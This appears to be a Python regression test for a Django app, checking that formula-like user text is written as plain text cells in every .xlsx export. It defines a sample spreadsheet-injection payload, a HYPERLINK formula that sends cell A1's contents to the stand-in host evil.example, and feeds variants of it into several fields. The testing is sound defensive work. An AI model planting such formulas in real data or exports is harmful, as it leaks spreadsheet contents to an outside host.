"""Issue 17, finding 4: text typed by anyone that a spreadsheet would take for a formula (= + - @ tab CR)
reads back from every .xlsx export as a text cell with exactly that text: the case ledger, the points
ledger and orders, the people export and the five-star bulletin."""

import datetime
import io
import zipfile

from django.utils import timezone
from openpyxl import load_workbook

from gridgov.cases import ledger as case_ledger
from gridgov.cases.models import Case
from gridgov.core import xlsx
from gridgov.org import actions as org_actions
from gridgov.org import exports
from gridgov.points import actions as points_actions
from gridgov.points import ledger as points_ledger
from gridgov.points import queries as points_queries
from gridgov.points.models import Entry
from tests.cases.conftest import cfg, clock, report  # noqa: F401
from tests.points.conftest import fund, shop  # noqa: F401
from tests.stars.conftest import PERIOD, county_admin, quarter, scheme  # noqa: F401

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def assert_text(data: bytes, text: str) -> None:
    """`text` is in the workbook, only as text cells with the quote prefix; the file holds no formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        sheets = [parts.read(n).decode() for n in parts.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in s or "<f " in s for s in sheets)
    book = load_workbook(io.BytesIO(data))
    found = [c for ws in book for row in ws.iter_rows() for c in row if c.value == text]
    assert found and all(c.data_type == "s" and c.quotePrefix for c in found), text


def test_the_helper_keeps_numbers_dates_and_plain_text_as_they_are():
    from openpyxl import Workbook

    ws = Workbook().active
    assert xlsx.safe_row(ws, [-5, 1.5, "张三", "", None, datetime.date(2026, 1, 1)]) == \
        [-5, 1.5, "张三", "", None, datetime.date(2026, 1, 1)]
    cells = xlsx.safe_row(ws, ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == \
        [(v, "s", True) for v in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]]


def test_every_export_writes_formula_text_as_text(personas, report, shop, fund, quarter, login):  # noqa: F811
    p = personas
    # The case ledger: a resident's description.
    report(description=EVIL)
    out = io.BytesIO()
    case_ledger.write_ledger(p.secretary_a, Case.objects.all(), out)
    assert_text(out.getvalue(), EVIL)
    # The points ledger (a reason) and the orders (a product's name).
    account = fund(p.town.zhang, 100)
    points_ledger.post(account, Entry.Kind.AWARD, 5, "+" + EVIL[1:], "test:evil")
    product = points_actions.do_save_product(p.secretary_a, shop.shop, "@" + EVIL[1:], 5, 10)
    points_actions.do_redeem(p.resident_a1, product, 1)
    today = timezone.localdate()
    for book, text in ((points_queries.ledger_workbook(p.secretary_a, today, today), "+" + EVIL[1:]),
                       (points_queries.orders_workbook(p.secretary_a, today, today), "@" + EVIL[1:])):
        data = io.BytesIO()
        book.save(data)
        assert_text(data.getvalue(), text)
    # The people export: a household's address.
    org_actions.do_create_household(None, "H445321104201001009", p.town.a1, EVIL)
    out = io.BytesIO()
    exports.export_workbook("households", out, user=p.secretary_a)
    assert_text(out.getvalue(), EVIL)
    # The five-star bulletin: a star's name set by the town.
    star = quarter.scheme.stars.order_by("pk").first()
    star.name = "-" + EVIL[1:]
    star.save(update_fields=["name"])
    response = login(p.town_admin).get(f"/stars/bulletin/{PERIOD}.xlsx")
    assert_text(response.content, "-" + EVIL[1:])
